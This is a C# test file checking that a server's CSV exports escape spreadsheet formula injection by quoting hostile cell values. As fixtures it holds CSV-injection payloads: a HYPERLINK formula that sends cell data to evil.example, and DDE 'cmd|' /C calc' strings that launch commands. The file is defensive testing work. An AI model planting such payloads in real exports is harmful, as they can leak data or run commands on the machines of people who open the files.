using System.Net.Http.Json;
using TeachServe.Core.Simulation;
using TeachServe.Server.Simulations;

namespace TeachServe.Server.Tests;

/// <summary>Formula injection (OWASP "CSV Injection"): the server's CSV exports write hostile text as text.</summary>
public sealed class CsvExportTests
{
    [Fact]
    public async Task Experiment_report_csv_neutralises_worker_refs_and_arm_names()
    {
        using var app = new TestApp();
        var keys = await app.ReadyProjectAsync();
        var owner = app.Client(keys.OwnerKey);
        var created = await Api.JsonAsync(await owner.PostAsJsonAsync($"/api/v1/projects/{keys.ProjectId}/experiments", new
        {
            name = "hostile names",
            arms = new object[] { new { name = "=HYPERLINK(\"http://evil.example\",\"a\")", policy = "random" }, new { name = "+arm", policy = "adaptive" } },
            primaryMetric = "test-error",
            minimumDetectableEffect = 0.1,
        }), 201);
        var id = created["experimentId"]!.GetValue<string>();
        await Api.JsonAsync(await owner.PostAsync($"/api/v1/experiments/{id}/start", null), 200);
        string[] workers = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(1+9)", "-2+3+cmd|' /C calc'!A0", "|pipe", "plain"];
        foreach (var worker in workers) await app.StartSessionAsync(keys, worker);

        var response = await owner.GetAsync($"/api/v1/experiments/{id}/report.csv");
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var csv = await response.Content.ReadAsStringAsync();
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).ToList();
        Assert.Equal(workers.Length, lines.Count);
        foreach (var line in lines)
        {
            // A row starts with the arm cell, quoted or not; neither it nor the worker cell may start a formula.
            Assert.True(line.StartsWith("\"'=HYPERLINK(", StringComparison.Ordinal) || line.StartsWith("'+arm,", StringComparison.Ordinal), line);
        }
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",", csv, StringComparison.Ordinal);
        Assert.Contains(",'@SUM(1+9),", csv, StringComparison.Ordinal);
        Assert.Contains(",'-2+3+cmd|' /C calc'!A0,", csv, StringComparison.Ordinal);
        Assert.Contains(",|pipe,", csv, StringComparison.Ordinal);
        Assert.Contains(",plain,", csv, StringComparison.Ordinal);
    }

    [Fact]
    public void Simulation_results_csv_neutralises_its_text_cells()
    {
        var result = new SimulationResult
        {
            Policy = "@cmd", Variant = LearnerVariant.Assumed, Learners = 2, Released = 1, ReleasePrecision = 1, Unqualified = 0,
            UnqualifiedReleased = 0, MeanTeachingItems = 3, MeanTestItems = 4, MeanTeachingItemsToRelease = 3, MeanFinalTrueError = 0.05, Curve = [],
        };
        var lines = SimulationOutputs.Csv([result]).Split("\r\n");
        Assert.StartsWith("policy,variant,learners,", lines[0], StringComparison.Ordinal);
        Assert.StartsWith("'@cmd,", lines[1], StringComparison.Ordinal);
        Assert.EndsWith(",0.05", lines[1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Sessions_csv_has_a_row_per_session_with_totals_and_neutralised_worker_refs()
    {
        using var app = new TestApp();
        var keys = await app.ReadyProjectAsync();
        var released = await app.StartSessionAsync(keys, "honest-worker");
        await TestApp.RunAsync(released, (item, _) => TestApp.TruthOf(item));
        await app.StartSessionAsync(keys, "=cmd|' /C calc'!A0");

        var owner = app.Client(keys.OwnerKey);
        var response = await owner.GetAsync($"/api/v1/projects/{keys.ProjectId}/sessions.csv");
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Contains("-sessions.csv", response.Content.Headers.ContentDisposition?.ToString(), StringComparison.Ordinal);
        var lines = (await response.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(string.Join(',', Sessions.SessionsCsv.Columns), lines[0]);
        Assert.Equal(3, lines.Length);

        // The finished session's row agrees with the session view the owner reads.
        var view = await Api.JsonAsync(await owner.GetAsync($"/api/v1/sessions/{released.SessionId}"), 200);
        var row = lines.Single(l => l.StartsWith(released.SessionId + ",", StringComparison.Ordinal)).Split(',');
        Assert.Equal("honest-worker", row[1]);
        Assert.Equal(view["phase"]!.GetValue<string>(), row[2]);
        Assert.Equal(view["itemsTaught"]!.GetValue<int>().ToString(System.Globalization.CultureInfo.InvariantCulture), row[5]);
        Assert.Equal(view["evidence"]!["testAnswered"]!.GetValue<int>().ToString(System.Globalization.CultureInfo.InvariantCulture), row[6]);
        Assert.Equal(view["evidence"]!["testErrors"]!.GetValue<int>().ToString(System.Globalization.CultureInfo.InvariantCulture), row[7]);
        Assert.NotEqual("", row[11]);
        // The hostile workerRef is text, not a formula.
        Assert.Contains(",'=cmd|' /C calc'!A0,", lines[1] + "\n" + lines[2], StringComparison.Ordinal);

        await Api.ProblemAsync(await app.Client(keys.EmbedKey).GetAsync($"/api/v1/projects/{keys.ProjectId}/sessions.csv"), 403);
    }
}
